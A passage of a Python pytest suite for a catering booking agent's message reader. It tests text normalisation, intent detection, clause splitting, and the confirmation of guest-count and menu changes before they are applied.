"""The reader: normalising, the learned model, cues that must win, the frozen corpus split."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import get_args
from zoneinfo import ZoneInfo

import pytest

from agent.understanding import corpus as corpora
from agent.understanding import entities as ent
from agent.understanding import normalise, slots, training
from agent.understanding import reader as reader_module
from agent.understanding.concerns import URGENCY
from agent.understanding.corpus import CorpusError
from agent.understanding.learned import LABELS, Features, LearnedReader, Reading
from agent.understanding.normalise import Lexicon, Normaliser
from agent.understanding.reader import Reader, default_reader
from agent.understanding.schema import (
    CHANGE_INTENTS,
    Concern,
    Context,
    Entities,
    GuestChange,
    Request,
    Understanding,
)
from agent.understanding.topics import Topics
from agent.understanding.training import context_for
from agent.understanding.vocabulary import AgeLimits, Vocabulary
from knowledge.charter import Charter
from knowledge.seed import read_seed
from tests.rules import rules_with, seed_addons
from tools.policy import CONCERN_PRIORITY, PRIORITY_RANK

VOCABULARY = Vocabulary.from_seed(read_seed())
TIMEZONE = "America/Los_Angeles"
NOW = datetime(2026, 6, 10, 15, 0, tzinfo=ZoneInfo(TIMEZONE))


#: No clause holds a change of its own (`reader._asked_about`).
NONE: frozenset[int] = frozenset()


def context(pending: str | None = None, after_event: bool = False) -> Context:
    return Context(now=NOW, timezone=TIMEZONE, pending=pending, after_event=after_event)  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def normaliser() -> Normaliser:
    return Normaliser(
        Lexicon.load("en"), ["filet mignon", "yakisoba noodles", "scallops", "shrimp", "salmon"]
    )


@pytest.fixture(scope="module")
def reader() -> Reader:
    return default_reader()


def intents(u: Understanding) -> list[str]:
    return [r.intent for r in u.requests]


def reading(**intents: float) -> Reading:
    """A model's reading with the given intents' probabilities, the rest 0."""
    return Reading(
        intents={i: intents.get(i, 0.0) for i in LABELS}, tone="neutral", tone_probability=1.0
    )


class TestNormaliser:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            (
                "can u do it tmrw b4 5pm w/ 12 ppl pls",
                "can you do it tomorrow before 5pm with 12 people please",
            ),
            ("thx!!", "thanks!!"),
            ("add yakisoba + xtra fried rice", "add yakisoba + extra fried rice"),
            ("how much 4 30ppl", "how much for 30 people"),
            ("12adults and 3kids", "12 adults and 3 kids"),
            ("at 6pm on the 2nd", "at 6pm on the 2nd"),
            # "msg" is as often monosodium glutamate as a message: left as written
            ("is there msg in the sauce", "is there msg in the sauce"),
        ],
    )
    def test_shorthand_is_read_as_words(
        self, normaliser: Normaliser, text: str, expected: str
    ) -> None:
        assert normaliser.normalise(text) == expected

    @pytest.mark.parametrize(
        ("text", "words"),
        [
            ("🥩🍤 pls", ["steak", "shrimp", "please"]),
            ("🦞 for 2", ["lobster", "for", "2"]),
            ("perfect 👍", ["perfect", "👍"]),  # no dish: kept as written
            # beside a dish named in words, an emoji is decoration
            ("salmon for everyone 🍤", ["salmon", "for", "everyone", "🍤"]),
        ],
    )
    def test_an_emoji_naming_a_dish_is_read_as_the_word(
        self, normaliser: Normaliser, text: str, words: list[str]
    ) -> None:
        assert normaliser.normalise(text).split() == words

    def test_an_emoji_read_as_a_dish_stays_in_the_text_the_tone_is_read_from(
        self, reader: Reader
    ) -> None:
        prepared = reader.prepare("🥩🍤 pls", context(), VOCABULARY)
        assert "steak" in prepared.normalised.split()
        assert "🥩" in prepared.features.chars

    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("need 2 cancel the party", "need to cancel the party"),
            ("swap shrimp 4 salmon", "swap shrimp for salmon"),
            ("chicken 4 everyone", "chicken for everyone"),
            ("bump us up 2 22", "bump us up to 22"),
            ("we have 2 kids and 4 more adults", "we have 2 kids and 4 more adults"),
            ("yo hw much 4 kids", "yo how much for kids"),
            ("what do u charge 4 toddlers", "what do you charge for toddlers"),
            ("12 adults 4 kids now", "12 adults 4 kids now"),
            ("adults 4 kids 2", "adults 4 kids 2"),
            # a stop between it and the next word: a number, never "to" or "for"
            ("rating: 2. the chef was late", "rating: 2. the chef was late"),
            ("we r 2, the rest bailed", "we are 2, the rest bailed"),
        ],
    )
    def test_two_and_four_are_words_only_where_they_count_nothing(
        self, normaliser: Normaliser, text: str, expected: str
    ) -> None:
        assert normaliser.normalise(text) == expected

    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            # shown failing before: "shrimp n filet" read the shrimp as going out
            (
                "can we do shrimp n filet mignon instead",
                "can we do shrimp and filet mignon instead",
            ),
            ("can i chnge to shrmp n scallps", "can i change to shrimp and scallops"),
            ("n", "n"),  # a no, alone
            ("12 adults n 3 kids", "12 adults n 3 kids"),
        ],
    )
    def test_n_is_and_only_between_two_dishes(
        self, normaliser: Normaliser, text: str, expected: str
    ) -> None:
        assert normaliser.normalise(text) == expected

    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            # four letters: only two letters swapped are corrected
            ("we hav 14 adluts now and 3 kdis", "we hav 14 adults now and 3 kids"),
            ("tfou pls", "tofu please"),
            ("pls cancell it", "please cancel it"),
            ("cansel", "cancel"),
            ("cancle the event", "cancel the event"),
            ("chiken and stake", "chicken and stake"),
            ("allergic to shelfish", "allergic to shellfish"),
            ("the gests count", "the guests count"),
            # the lexicon's words of joining and leaving are domain words too
            ("increse by 3", "increase by 3"),
            ("3 of them bailled", "3 of them bailed"),
            ("wats includded", "wats included"),  # a word of the FAQs
        ],
    )
    def test_misspellings_become_the_domain_word(
        self, normaliser: Normaliser, text: str, expected: str
    ) -> None:
        assert normaliser.normalise(text) == expected

    @pytest.mark.parametrize("text", ["the salon is next door", "a sermon", "she sells", "call"])
    def test_real_words_are_never_corrected(self, normaliser: Normaliser, text: str) -> None:
        assert normaliser.normalise(text) == text

    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("thirty adults and four kids", "30 adults and 4 kids"),
            ("twenty two guests", "22 guests"),
            ("a dozen kids", "12 kids"),
            ("half a dozen more", "6 more"),
            ("a couple more people", "2 more people"),
        ],
    )
    def test_numbers_in_words_become_digits(
        self, normaliser: Normaliser, text: str, expected: str
    ) -> None:
        assert normaliser.normalise(text) == expected


class TestReadingRealWriting:
    """Messages in the shapes the rules alone misread (none of them is in the corpus)."""

    def test_to_written_as_2_is_a_cancellation_not_fewer_guests(self, reader: Reader) -> None:
        got = reader.understand("hey need 2 cxl our party sat, sorry", context(), VOCABULARY)
        assert intents(got)[0] == "cancellation"
        assert all(r.entities.guests is None for r in got.requests)

    def test_a_greeting_never_hides_the_request_after_it(self, reader: Reader) -> None:
        got = reader.understand("Hi, I need to change the number of guests", context(), VOCABULARY)
        assert intents(got) == ["headcount_change"]
        got = reader.understand("yo hw much 4 kids", context(), VOCABULARY)
        assert intents(got) == ["faq"]

    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("we gotta cancel 😢 do we get the deposit back?", ["cancellation", "faq"]),
            ("pls add the noodles, n do u guys bring a table?", ["menu_selection", "faq"]),
        ],
    )
    def test_a_question_after_an_emoji_or_a_shorthand_and_is_a_request_of_its_own(
        self, reader: Reader, text: str, expected: list[str]
    ) -> None:
        """In the clause of a change a FAQ is that change's question (rule I2); an emoji or
        ", n" ends the change's clause, so the question after it is asked on its own."""
        assert intents(reader.understand(text, context(), VOCABULARY)) == expected

    @pytest.mark.parametrize(
        ("text", "clauses"),
        [
            ("we gotta cancel 😢 do we get it back?", ["we gotta cancel 😢", "do we get it back?"]),
            ("add gyoza, n do u bring a table", ["add gyoza", "n do u bring a table"]),
            (
                "grandma's in n my brother can't make it",
                ["grandma's in", "n my brother can't make it"],
            ),
            ("🥩🦐 for the adults", ["🥩🦐 for the adults"]),  # a dish's emoji opens its clause
            ("filet for everyone 🥩 yum", ["filet for everyone 🥩 yum"]),
        ],
    )
    def test_an_emoji_or_n_before_a_new_clause_ends_the_one_before(
        self, text: str, clauses: list[str]
    ) -> None:
        split = reader_module.cue.split_clauses(text)
        assert [text[c.start : c.end].strip() for c in split] == clauses

    @pytest.mark.parametrize("pending", ["cancel_choice", "confirm_change", None])
    def test_talking_it_over_with_family_is_no_request_for_a_person(
        self, reader: Reader, pending: str | None
    ) -> None:
        """Shown failing before: "hmm ok lemme talk to him", after the cancel choice was
        offered, was read as asking for a person and opened a case."""
        got = reader.understand("hmm ok lemme talk to him", context(pending), VOCABULARY)
        assert "human_request" not in intents(got)
        got = reader.understand("can i talk to someone about this", context(pending), VOCABULARY)
        assert intents(got) == ["human_request"]

    def test_several_groups_are_each_read(self, reader: Reader) -> None:
        got = reader.understand(
            "We now have 14 adults and 2 kids instead of 10 adults", context(), VOCABULARY
        )
        changes = {
            (r.entities.guests.group, r.entities.guests.total)
            for r in got.requests
            if r.entities.guests
        }
        assert changes == {("adults", 14), ("kids", 2)}

    @pytest.mark.parametrize(
        "text",
        [
            "add 2 adults",
            "Hi! add 2 adults please",  # a greeting is no second statement
            "swap chicken 4 steak pls",
            "make it 12 adults and 4 kids. thanks so much!",
        ],
    )
    def test_a_change_said_plainly_is_applied_without_asking(
        self, reader: Reader, text: str
    ) -> None:
        got = reader.understand(text, context(), VOCABULARY)
        changes = [r for r in got.requests if r.intent in CHANGE_INTENTS]
        assert changes and all(r.confidence >= reader_module.CONFIDENT for r in changes)

    @pytest.mark.parametrize(
        "text",
        [
            "can we add 2 more adults?",  # asked, not told
            "what's my balance now that we dropped to 14 ppl",  # a question beside it
            "ok so how much do we owe, we're 14 adults now",  # asked without its "?"
            "add 2 adults. also swap the chicken for steak",  # values in two sentences
            "my brother is bringing his two boys, they're 9 and 11",  # worked out from people
            "my stepbrother + his 3 kids, ages 1, 4 and 7",  # ages decide the groups
            "ok so I was just talking with my wife and um we finally sorted it out, her cousins"
            " are driving up after all so it's gonna be twenty two adults total yeah",  # a ramble
        ],
    )
    def test_a_change_worked_out_is_read_back_before_it_is_applied(
        self, reader: Reader, text: str
    ) -> None:
        got = reader.understand(text, context(), VOCABULARY)
        changes = [r for r in got.requests if r.intent in CHANGE_INTENTS]
        assert changes, got
        assert all(r.confidence < reader_module.CONFIDENT for r in changes)

    @pytest.mark.parametrize(
        ("text", "asks"),
        [
            ("ok so whats the total now", True),
            ("add 2 adults, how much is it now", True),
            ("When's the chef coming. we're 14", True),
            ("so like if we did steak instead of tofu", True),  # only supposed
            ("i told them what we need", False),
            ("add 2 adults", False),
        ],
    )
    def test_a_question_word_opening_a_sentence_or_clause_asks(
        self, reader: Reader, text: str, asks: bool
    ) -> None:
        words = reader.prepare(text, context(), VOCABULARY).words
        assert reader_module.asks_in_words(words, reader.lexicon) is asks

    def test_a_question_a_clause_asks_beside_a_request_is_read_at_lower_odds(self) -> None:
        """ "when's the chef getting here? gate code is 4471 btw": the gate code fills the
        message, the clause asks the arrival. Only asks that change nothing booked."""

        message = reading(access_info=0.9, booking_question=0.35, headcount_change=0.35)
        clauses = [
            reading(booking_question=0.85, headcount_change=0.9),
            reading(access_info=0.95),
        ]
        assert reader_module._asked_aside(["access_info"], message, clauses) == ["booking_question"]
        faint = reading(access_info=0.9, booking_question=0.25)
        assert reader_module._asked_aside(["access_info"], faint, clauses) == []

    @pytest.mark.parametrize("topic", ["dietary_request", "weather_concern"])
    def test_a_general_question_beside_a_diet_or_weather_is_that_topics_question(
        self, topic: str
    ) -> None:
        """ "Grandpa has celiac disease. How do you handle cross-contamination on the grill?":
        the clause asks plainly, but about the diet (rule I5); a booking question aside is
        still one ("gate code is 4471, when's the chef getting here?")."""

        message = reading(**{topic: 0.99, "faq": 0.35, "booking_question": 0.35})
        clauses = [reading(**{topic: 1.0}), reading(faq=0.9, booking_question=0.85)]
        assert reader_module._asked_aside([topic], message, clauses) == ["booking_question"]
        assert reader_module._asked_aside(["access_info"], message, clauses) == [
            "faq",
            "booking_question",
            topic,
        ]

    @pytest.mark.parametrize(
        ("owner", "kept"),
        [
            ("cancellation", ["cancellation"]),  # "what do i do to cancel"
            ("dietary_request", ["dietary_request"]),  # "do u do halal meat?"
            ("greeting", ["greeting", "faq"]),  # a greeting carries no question
        ],
    )
    def test_a_question_in_the_clause_of_a_request_is_part_of_it(
        self, owner: str, kept: list[str]
    ) -> None:
        clauses = [reader_module._Clause(0, 22)]
        placed = [(0, Request(intent=owner)), (5, Request(intent="faq"))]
        got = reader_module._questions_of_their_own(placed, clauses)
        assert [r.intent for _, r in got] == kept

    @pytest.mark.parametrize(
        ("text", "back"),
        [
            ("we might have to push the whole thing, is that possible?", {1}),
            ("swap the chicken for shrimp. can u do that?", {1}),
            ("add 2 kids, and would that work?", {1}),
            ("add 2 kids. is that extra?", set()),  # a price: the change's quote (rule I3)
            ("55 a head for adults, is that right?", set()),  # checks a fact
            ("tofu question, is it fried?", set()),  # asks one
            ("add 2 kids. is that ok for 20 people?", set()),  # names a number of its own
            ("is that possible?", set()),  # nothing before it to point at
            ("cancel pls. is the deposit refundable?", set()),
        ],
    )
    def test_a_short_question_about_the_clause_before_points_back(
        self, reader: Reader, text: str, back: set[int]
    ) -> None:
        clauses = [
            reader_module._Clause(c.start, c.end) for c in reader_module.cue.split_clauses(text)
        ]
        assert reader_module._pointing_back(clauses, text, reader.lexicon) == back

    def test_a_question_pointing_back_is_the_request_before_it(self) -> None:
        """ "we need to move it a week later. Is that ok?": the question is the move's."""
        clauses = [reader_module._Clause(0, 33), reader_module._Clause(34, 45)]
        placed = [(0, Request(intent="date_change")), (34, Request(intent="faq"))]
        got = reader_module._questions_of_their_own(placed, clauses, frozenset({1}))
        assert [r.intent for _, r in got] == ["date_change"]
        assert [r.intent for _, r in reader_module._questions_of_their_own(placed, clauses)] == [
            "date_change",
            "faq",
        ]

    def test_a_question_pointing_back_brings_the_request_before_it(self) -> None:
        """Read less surely in the whole message than the question, the move the question
        points at is asked for all the same; a clause before that asks nothing brings none."""
        before, question = reading(date_change=0.6), reading(faq=0.9)
        assert reader_module._pointed_at(["faq"], frozenset({1}), [before, question]) == [
            "date_change"
        ]
        faint = reading(date_change=0.3)
        assert reader_module._pointed_at(["faq"], frozenset({1}), [faint, question]) == []

    def test_a_question_in_a_clause_of_its_own_stays_a_question(self) -> None:
        """ "cancel pls. is the deposit refundable?" asks the refund policy as well."""
        clauses = [reader_module._Clause(0, 11), reader_module._Clause(12, 38)]
        placed = [(0, Request(intent="cancellation")), (12, Request(intent="faq"))]
        got = reader_module._questions_of_their_own(placed, clauses)
        assert [r.intent for _, r in got] == ["cancellation", "faq"]

    @pytest.mark.parametrize(
        ("named", "kept"),
        [  # "resched fee?": read surer as the general question, and naming no date
            (Request(intent="date_change", confidence=0.75), ["faq"]),
            # "is it too late to move it?": read surer as the move, which carries the question
            (Request(intent="date_change", confidence=0.97), ["date_change"]),
            # "can we move to the 28th, fee?": a date named is a move to make
            (
                Request(intent="date_change", confidence=0.75, entities=Entities(date=NOW.date())),
                ["date_change"],
            ),
            # "take the shrimp off, what does that save?": an item taken off is a change to make
            (
                Request(
                    intent="protein_swap",
                    confidence=0.75,
                    entities=Entities(removed_proteins=["shrimp"]),
                ),
                ["protein_swap"],
            ),
            # "1, is that the full refund?": the cancel choice answered is the cancellation
            (
                Request(intent="cancellation", confidence=0.75, entities=Entities(choice="1")),
                ["cancellation"],
            ),
            # a diet carries its questions however the general one reads
            (Request(intent="dietary_request", confidence=0.6), ["dietary_request"]),
        ],
    )
    def test_a_general_question_read_surer_than_a_request_naming_nothing_is_the_question(
        self, named: Request, kept: list[str]
    ) -> None:
        clauses = [reader_module._Clause(0, 22)]
        placed = [(0, named), (5, Request(intent="faq", confidence=0.94))]
        got = reader_module._questions_of_their_own(placed, clauses)
        assert [r.intent for _, r in got] == kept

    @pytest.mark.parametrize(
        ("odds", "slot_sure", "added"), [(0.3, 0.97, True), (0.1, 0.97, False), (0.3, 0.6, False)]
    )
    def test_a_party_size_said_beside_another_request_is_a_change_read_back(
        self, odds: float, slot_sure: float, added: bool
    ) -> None:
        """ "down to 16 ppl, and pls swap the shrimp for salmon": the swap fills the message, the
        count is surely a new total. The change it adds is as sure as its odds: read back."""
        message = Reading(
            intents={i: odds if i == "headcount_change" else 0.0 for i in LABELS},
            tone="casual",
            tone_probability=1.0,
        )
        count = slots.SlotReading(
            slots.Slot("count", 8, 2, 3, 16, "guests"), "total", slot_sure, "guests"
        )
        placed = [(0, Request(intent="protein_swap", confidence=0.95))]
        got = reader_module._counted_aside(placed, [count], message)
        heads = [r for _, r in got if r.intent == "headcount_change"]
        assert bool(heads) is added
        if added:
            assert heads[0].confidence == odds < reader_module.CONFIDENT

    @pytest.mark.parametrize(
        ("asks_of_a_change", "intent"), [(0.86, "booking_question"), (0.07, "faq")]
    )
    def test_the_price_of_a_change_made_is_what_the_customer_owes(
        self, asks_of_a_change: float, intent: str
    ) -> None:
        """ "my sis n her bf r coming too, how much more is that" asks what they will owe;
        "add 2 adults. how much is it for kids again?" is a FAQ of its own."""
        clauses = [reader_module._Clause(0, 30), reader_module._Clause(31, 52)]
        per_clause = [
            Reading(
                intents={i: 0.0 for i in LABELS},
                tone="casual",
                tone_probability=1.0,
            ),
            Reading(
                intents={i: asks_of_a_change if i == "hypothetical" else 0.0 for i in LABELS},
                tone="casual",
                tone_probability=1.0,
            ),
        ]
        change = Request(
            intent="headcount_change",
            entities=Entities(guests=GuestChange(delta=2, group="adults")),
        )
        placed = [(0, change), (31, Request(intent="faq"))]
        got = reader_module._price_of_the_change(placed, clauses, per_clause)
        assert [r.intent for _, r in got] == ["headcount_change", intent]
        if intent == "booking_question":
            assert got[1][1].entities.asked == ["balance"]

    @pytest.mark.parametrize(
        ("text", "casual"),
        [
            ("hey can u add 2 adults", True),
            ("my bad, 14 not 16", True),  # a phrase of the lexicon
            ("we'll bring the kiddos w/ us", True),
            ("Please add two adults.", False),
            ("Kindly confirm the address.", False),
        ],
    )
    def test_an_informal_word_is_a_hint_for_the_tone(
        self, reader: Reader, text: str, casual: bool
    ) -> None:
        """docs/labelling.md (T1): one word of an informal register makes a message casual
        unless an emotion or a formal register outranks it (`casual_markers:` in the lexicon)."""
        read = Understanding(tone="neutral", requests=[Request(intent="other")])
        hints = reader_module.hints_for(read, context(), text, reader.lexicon)
        assert ("marker_casual" in hints) is casual

    @pytest.mark.parametrize(
        "text", ["ok also 3 more ppl bailed ugh", "2 more of the guys dropped out"]
    )
    def test_people_leaving_counted_with_more_are_never_added_without_asking(
        self, reader: Reader, text: str
    ) -> None:
        got = reader.understand(text, context(), VOCABULARY)
        for r in got.requests:
            guests = r.entities.guests
            added = guests is not None and (guests.delta or 0) > 0
            assert not (added and r.confidence >= reader_module.CONFIDENT), r

    @pytest.mark.parametrize(
        "text",
        [
            "adding my niece she's 12",
            "my niece is coming too shes 12",
            "my nephew (4)",
            # shown failing before: 9 was also read as 9 more guests beside the niece
            "my niece is 9 and shes coming now",
        ],
    )
    def test_an_age_is_marked_for_the_slot_reader_on_the_count_and_on_its_person(
        self, reader: Reader, text: str
    ) -> None:
        prepared = reader.prepare(text, context(), VOCABULARY)
        hints = {s.kind: h for s, h in zip(prepared.slots, prepared.slot_hints, strict=True)}
        assert "count_is_age" in hints["count"]
        assert "person_aged" in hints["person"]

    def test_a_person_named_with_is_and_a_number_is_aged_not_counted(self, reader: Reader) -> None:
        """Shown failing before: "my niece is 9 and shes coming now" was one more kid and 9
        more guests; "the party is 20" stays a count (no person named before "is")."""
        got = reader.understand("my niece is 9 and shes coming now", context(), VOCABULARY)
        changes = [r.entities.guests for r in got.requests if r.entities.guests]
        assert [(c.delta, c.group) for c in changes] == [(1, "kids")]
        tokens = slots.Tokens.of("the party is 20 now")
        found = slots.find_slots("the party is 20 now", tokens, [], None)
        assert slots.ages(tokens.words, counting=True, found_in=found) == {}

    def test_a_count_of_the_party_is_not_an_age(self, reader: Reader) -> None:
        prepared = reader.prepare("we're 20 now, my niece is coming", context(), VOCABULARY)
        hints = {s.kind: h for s, h in zip(prepared.slots, prepared.slot_hints, strict=True)}
        assert "count_is_age" not in hints["count"]
        assert "person_aged" not in hints["person"]

    @pytest.mark.parametrize(
        ("beside", "confidence"), [(["complaint"], reader_module.WORKED_OUT), ([], 0.99)]
    )
    def test_a_change_beside_a_complaint_is_read_back(
        self, reader: Reader, beside: list[str], confidence: float
    ) -> None:
        """ "my invoice lists lobster for everyone, we ordered steak and chicken" names what
        went wrong: read as a menu choice, it is asked about, never applied at once."""
        text = "the invoice lists lobster for all of us, we ordered steak and chicken"
        prepared = reader.prepare(text, context(), VOCABULARY)
        read = [slots.SlotReading(s, "want", 0.99) for s in prepared.slots]
        sure = Request(intent="menu_selection", confidence=0.99)
        (_, got), *_ = reader_module._plainly_said(
            [(0, sure)], text, ["menu_selection", *beside], prepared, read, reader.lexicon
        )
        assert got.confidence == confidence

    @pytest.mark.parametrize(
        ("text", "plain"),
        [
            ("steak and filet for the adults. purely for information, we keep our order", False),
            ("steak and filet for the adults. don't change anything", False),
            ("steak and filet for the adults, were we to upgrade", False),
            ("steak and filet for the adults. never mind, keep it as is", False),
            ("steak and filet for the adults please", True),
            # asked without its question mark: "can the vegetarians get tofu instead of meat"
            ("can the adults get steak and filet", False),
            ("can u do steak and filet for the adults pls", True),  # a request made politely
        ],
    )
    def test_a_change_beside_words_that_suppose_it_is_read_back(
        self, reader: Reader, text: str, plain: bool
    ) -> None:
        """ "Please let us know the cost if we were to add four adults. This is for planning
        purposes only." has no question mark and plain values, but nothing is to change; nor
        is a change asked for with "can" and no question mark taken as told."""
        prepared = reader.prepare(text, context(), VOCABULARY)
        read = [slots.SlotReading(s, "want", 0.99) for s in prepared.slots]
        sure = Request(intent="menu_selection", confidence=0.99)
        (_, got), *_ = reader_module._plainly_said(
            [(0, sure)], text, ["menu_selection"], prepared, read, reader.lexicon
        )
        assert got.confidence == (0.99 if plain else reader_module.WORKED_OUT)

    @pytest.mark.parametrize(
        ("text", "intent", "misread"),
        [
            ("the lobster is over our budget, so chicken and steak", "menu_selection", "want"),
            ("3 more people bailed on us", "headcount_change", "more"),
        ],
    )
    def test_values_read_against_their_words_are_read_back(
        self, reader: Reader, text: str, intent: str, misread: str
    ) -> None:
        prepared = reader.prepare(text, context(), VOCABULARY)
        first = prepared.slots[0]  # the lobster, the 3: read the wrong way round
        read = [slots.SlotReading(first, misread, 0.99, "guests", 0.99)]
        sure = Request(intent=intent, confidence=0.99)  # type: ignore[arg-type]
        (_, got), *_ = reader_module._plainly_said(
            [(0, sure)], text, [intent], prepared, read, reader.lexicon
        )
        assert got.confidence == reader_module.WORKED_OUT
        read = [replace(read[0], role="remove" if misread == "want" else "fewer")]
        (_, got), *_ = reader_module._plainly_said(
            [(0, sure)], text, [intent], prepared, read, reader.lexicon
        )
        assert got.confidence == 0.99

    @pytest.mark.parametrize(
        ("text", "intents"),
        [
            ("say we had 6 more kids, how much extra is that?", ["headcount_change"]),
            ("what's the price if we go up to 30 people", ["headcount_change"]),
            (
                "if we add 3 kids how much more? also do you take venmo?",
                ["headcount_change", "faq"],
            ),
        ],
    )
    def test_the_price_of_a_change_asked_about_is_its_quote_not_a_faq(
        self, reader: Reader, text: str, intents: list[str]
    ) -> None:
        got = reader.understand(text, context(), VOCABULARY)
        assert [r.intent for r in got.requests] == intents
        assert got.requests[0].entities.hypothetical

    @pytest.mark.parametrize(
        ("asked", "kept"),
        [
            (Request(intent="booking_question", entities=Entities(asked=["balance"])), False),
            (Request(intent="faq"), False),
            (Request(intent="booking_question", entities=Entities(asked=["when"])), True),
        ],
    )
    def test_what_they_would_owe_after_a_change_asked_about_is_its_quote(
        self, asked: Request, kept: bool
    ) -> None:
        """ "say we had 6 more kids, how much extra is that?": the quote answers the question
        (rule I4); "if 6 more kids came, when is the party again?" asks something else."""
        clauses = [reader_module._Clause(0, 22), reader_module._Clause(23, 48)]
        change = Request(
            intent="headcount_change",
            entities=Entities(guests=GuestChange(delta=6, group="kids"), hypothetical=True),
        )
        got = reader_module._quoted([(0, change), (23, asked)], clauses)
        assert got == ([(0, change), (23, asked)] if kept else [(0, change)])

    @pytest.mark.parametrize(
        ("hypothetical", "alone", "asked", "changes_in"),
        [
            ((0.38, 0.47), True, True, NONE),  # "say we had 6 more kids, | how much extra is that?"
            ((0.38, 0.47), False, False, NONE),  # another change may be the one asked about
            ((0.1, 0.2, 0.9), True, False, NONE),  # "add 2 adults, | thanks, | what if it rains?"
            ((0.1, 0.6), False, True, NONE),  # the clause after the change asks about it
            # "can we swap the steak 4 shrimp n | also we might be 3 more, not sure yet": the
            # clause after the swap asks about its own change, not the swap
            ((0.1, 0.6), False, False, frozenset({0, 1})),
        ],
    )
    def test_the_only_change_of_a_what_if_message_is_asked_about_unless_a_clause_says_otherwise(
        self,
        hypothetical: tuple[float, ...],
        alone: bool,
        asked: bool,
        changes_in: frozenset[int],
    ) -> None:
        clauses = [reader_module._Clause(10 * k, 10 * k + 9) for k in range(len(hypothetical))]
        per_clause = [
            Reading(
                intents={i: odds if i == "hypothetical" else 0.0 for i in LABELS},
                tone="neutral",
                tone_probability=1.0,
            )
            for odds in hypothetical
        ]
        change = Request(
            intent="headcount_change", entities=Entities(guests=GuestChange(delta=6, group="kids"))
        )
        got = reader_module._asked_about(0, change, clauses, per_clause, alone, changes_in)
        assert got is asked

    @pytest.mark.parametrize(
        ("text", "change", "asked"),
        [
            (
                "switch chicken to calamari. how much would scallops be btw",
                "protein_swap",
                "scallops",
            ),
            (
                "can u do shrimp instead of steak? also how much is lobster",
                "protein_swap",
                "lobster",
            ),
            ("add lobster for 4 ppl. how much is scallops", "menu_selection", "scallops"),
        ],
    )
    def test_a_price_question_naming_another_dish_asks_of_its_own(
        self, reader: Reader, text: str, change: str, asked: str
    ) -> None:
        """The question names a dish the change does not: it is answered, and the change beside
        it is made (or read back), not only asked about, and never carries the dish asked of."""
        got = reader.understand(text, context(), VOCABULARY)
        assert [r.intent for r in got.requests] == [change, "faq"]
        made = got.requests[0].entities
        assert not made.hypothetical
        assert asked not in (*made.proteins, *made.upgrades)

    def test_a_question_a_clause_asks_plainly_is_read_beside_a_change(self, reader: Reader) -> None:
        text = "ugh 2 of the kids got sick, take them off. and whats my balance now"
        got = reader.understand(text, context(), VOCABULARY)
        assert [r.intent for r in got.requests] == ["headcount_change", "booking_question"]

    def test_a_total_asked_about_is_not_also_a_headcount_change(self, reader: Reader) -> None:
        got = reader.understand("also wats the total now", context(), VOCABULARY)
        assert [r.intent for r in got.requests] == ["booking_question"]

    def test_a_change_with_nothing_to_change_by_in_a_question_clause_is_the_question(
        self,
    ) -> None:
        text = "whats the total now. we need to change the headcount"
        clauses = [reader_module._Clause(0, 19), reader_module._Clause(20, len(text))]
        question = Request(intent="booking_question", confidence=0.95)
        unsure = Request(intent="headcount_change", confidence=0.9)
        counted = Request(
            intent="headcount_change",
            confidence=0.9,
            entities=Entities(guests=GuestChange(total=20, group="guests")),
        )
        kept = reader_module._asked_not_changed(
            [(0, question), (1, unsure), (2, counted), (20, unsure)], clauses
        )
        assert kept == [(0, question), (2, counted), (20, unsure)]

    @pytest.mark.parametrize(
        ("entities", "values"),
        [
            (Entities(), False),
            (Entities(asked=["balance"]), False),
            (Entities(guests=GuestChange(delta=-1, group="kids")), True),
            (Entities(proteins=["shrimp"]), True),
            (Entities(removed_upgrades=["yakisoba_noodles"]), True),  # "drop the noodles"
        ],
    )
    def test_a_change_carries_values_when_it_names_guests_proteins_or_add_ons(
        self, entities: Entities, values: bool
    ) -> None:
        assert entities.changes_something is values

    def test_a_price_question_about_a_change_only_asks(self, reader: Reader) -> None:
        got = reader.understand(
            "how much would it be if we added 2 more adults? just asking", context(), VOCABULARY
        )
        changes = [r for r in got.requests if r.intent == "headcount_change"]
        assert changes and all(r.entities.hypothetical for r in changes)


class TestMenuChange:
    """One menu change a message: a swap only when a protein goes out."""

    @staticmethod
    def change(roles: list[tuple[str, str]]) -> str:
        read = [
            slots.SlotReading(slots.Slot("protein", k, k, k + 1, slug), role, 0.99)
            for k, (slug, role) in enumerate(roles)
        ]
        placed = [
            (0, Request(intent="menu_selection", confidence=0.9)),
            (3, Request(intent="protein_swap", confidence=0.6)),
        ]
        [(_, request)] = reader_module._with_slots(placed, read)
        return request.intent

    def test_a_choice_is_a_selection_though_a_swap_was_possible(self) -> None:
        assert self.change([("tofu", "want"), ("shrimp", "want")]) == "menu_selection"

    def test_a_protein_going_out_makes_it_a_swap(self) -> None:
        assert self.change([("tofu", "want"), ("shrimp", "remove")]) == "protein_swap"

    @pytest.mark.parametrize(
        ("text", "back"),
        [
            ("stake and shrimp, oh wait no, make that steak and calamari", ["steak", "shrimp"]),
            ("chicken and calamari please. hold on. chicken and shrimp", ["chicken", "calamari"]),
            # adding to what was said takes nothing back
            ("steak and shrimp. wait, can we also add lobster", []),
            ("steak and shrimp please", []),
        ],
    )
    def test_a_menu_item_the_customer_takes_back_is_read(self, text: str, back: list[str]) -> None:
        lexicon, tokens, found = _menu_slots(text)
        got = [s.value for s in found if slots.taken_back(tokens.words, s, found, lexicon)]
        assert got == back

    def test_an_item_taken_back_is_not_wanted_unless_named_again_and_is_read_back(
        self,
    ) -> None:
        """ "stake and shrimp, oh wait no, make that steak and calamari": steak is named again,
        shrimp is not; the change is read back before it is applied."""
        text = "stake and shrimp, oh wait no, make that steak and calamari"
        lexicon, tokens, found = _menu_slots(text)
        read = [slots.SlotReading(s, "want", 0.99) for s in found]
        placed = [(0, Request(intent="menu_selection", confidence=0.99))]
        [(_, request)] = reader_module._with_slots(placed, read, tokens.words, lexicon=lexicon)
        assert request.entities.proteins == ["steak", "calamari"]
        assert request.confidence <= reader_module.WORKED_OUT

    def test_a_swap_with_nothing_read_going_out_is_read_back(self) -> None:
        """ "kids dont eat shrimp lol can they get chicken instead": a swap whose outgoing item
        the slot reader did not find would add chicken and keep shrimp; it is read back."""
        read = [
